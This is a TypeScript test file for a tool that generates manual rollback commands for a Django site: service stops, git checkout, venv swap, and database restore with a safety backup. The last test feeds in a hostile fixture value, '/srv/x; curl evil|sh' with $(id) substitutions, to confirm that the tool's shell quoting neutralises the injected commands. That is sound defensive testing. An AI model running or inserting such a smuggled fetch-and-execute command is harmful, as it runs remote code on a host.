import { expect, test } from 'vitest';
import { quote } from '../../src/domain/text/shell.ts';
import { manualCommands, programPlaces, remainingCommands } from '../../src/remote/manual-commands.ts';
import { codeOnlyPlan, databaseOnlyPlan, planOf, site } from '../entry/fixtures.ts';
import { eventsTo, runOf } from '../support/story/run.ts';
import { site as domainSite } from '../support/story/site.ts';

const RUN = '/srv/sum/acme-kitchens/.rollback-bot/runs/terminal-1';

test('a code-only rollback by hand, in the program’s order', () => {
  expect(manualCommands(site, codeOnlyPlan(), 'terminal-1')).toEqual([
    'flock -n /srv/sum/acme-kitchens/deploy.lock bash   # opens a shell that holds the lock; continue in it',
    `mkdir -p -m 700 ${RUN}`,
    'sudo -n systemctl stop sum-acme-kitchens-celery.service',
    'sudo -n systemctl stop sum-acme-kitchens-gunicorn.service',
    `git -C /srv/sum/acme-kitchens/app checkout --detach ${'c'.repeat(40)}`,
    `mv -T /srv/sum/acme-kitchens/venv ${RUN}/venv-before && ln -s /srv/sum/acme-kitchens/.rollback-bot/venvs/${'c'.repeat(40)} /srv/sum/acme-kitchens/venv`,
    "cd /srv/sum/acme-kitchens/app && bash -c 'set -a; . /srv/sum/acme-kitchens/.env; exec /srv/sum/acme-kitchens/venv/bin/python manage.py collectstatic --noinput'",
    'sudo -n systemctl start sum-acme-kitchens-gunicorn.service',
    'sudo -n systemctl start sum-acme-kitchens-celery.service',
    'curl -i http://10.0.0.5:8001/health/',
  ]);
});

test('a restore by hand has a safety backup before it, and no code if only the database goes back', () => {
  const commands = manualCommands(site, databaseOnlyPlan(), 'terminal-1');
  const backup = commands.findIndex((command) => command.includes('pg_dump'));
  const restore = commands.indexOf(
    `/srv/sum/bin/restore_db.sh --site-slug acme-kitchens --file ${RUN}/restore.sql.gz --i-know-this-will-overwrite --no-restart`,
  );

  expect(backup).toBeGreaterThan(0);
  expect(restore).toBeGreaterThan(backup);
  expect(commands[backup]).toContain(`-f ${RUN}/safety.sql.gz`);
  expect(commands.join('\n')).not.toMatch(/checkout|venv|collectstatic/);
});

test('a configured settings module is used', () => {
  const own = { ...site, settings: 'acme.settings' };
  const plan = codeOnlyPlan();
  const program = plan.program.replace("SETTINGS=''", "SETTINGS='acme.settings'");

  expect(manualCommands(own, { ...plan, program }, 'terminal-1').join('\n')).toContain(
    '.env; export DJANGO_SETTINGS_MODULE=acme.settings; exec ',
  );
});

test('what is left of a run whose host is silent begins with whether the program is still running', () => {
  const commands = remainingCommands(
    domainSite(),
    runOf([
      ...eventsTo('switching'),
      { type: 'host-silent', why: 'no route to host' },
      { type: 'host-lost', why: 'no route to host' },
    ]),
  );
  const alive = '/srv/sum/acme-kitchens/.rollback-bot/runs/acme-kitchens-7/alive';

  expect(commands).toContain(
    `# Leave the site alone as long as this says "running":\nif [ ! -e ${alive} ]; then echo never started; elif flock -n -s ${alive} true; then echo ended; else echo running; fi\n`,
  );
});

test('where the program and its parts would be', () => {
  const plan = planOf();

  expect(programPlaces(site, plan, 'terminal-1')).toEqual([
    `program     /srv/sum/acme-kitchens/.rollback-bot/programs/${plan.binding.programSha256}.sh (this command does not put it there)`,
    `environment /srv/sum/acme-kitchens/.rollback-bot/venvs/${'c'.repeat(40)}`,
    `restore     ${RUN}/restore.sql.gz`,
    `run         ${RUN}`,
  ]);
});

test('what the host has named is one word in each command, whatever it is called', () => {
  const evil = "/srv/x; curl evil|sh # it's $(id) `id`";
  const plan = codeOnlyPlan();
  const program = plan.program
    .replace(/^ENVIRONMENT='.*'$/m, () => `ENVIRONMENT=${quote(evil)}`)
    .replace(/^STOP_UNITS='.*'$/m, () => `STOP_UNITS=${quote('a;id b$(id)')}`);
  const restore = { path: evil, sha256: 'd'.repeat(64) };
  const commands = [
    ...manualCommands(site, { ...plan, program }, 'terminal-1'),
    ...manualCommands(site, { ...databaseOnlyPlan(), restore }, 'terminal-1'),
  ];

  expect(commands).toContain(
    `mv -T /srv/sum/acme-kitchens/venv ${RUN}/venv-before && ln -s ${quote(evil)} /srv/sum/acme-kitchens/venv`,
  );
  expect(commands).toContain(
    `/srv/sum/bin/restore_db.sh --site-slug acme-kitchens --file ${quote(evil)} --i-know-this-will-overwrite --no-restart`,
  );
  expect(commands).toContain("sudo -n systemctl stop 'a;id'");
  expect(commands).toContain("sudo -n systemctl stop 'b$(id)'");
});
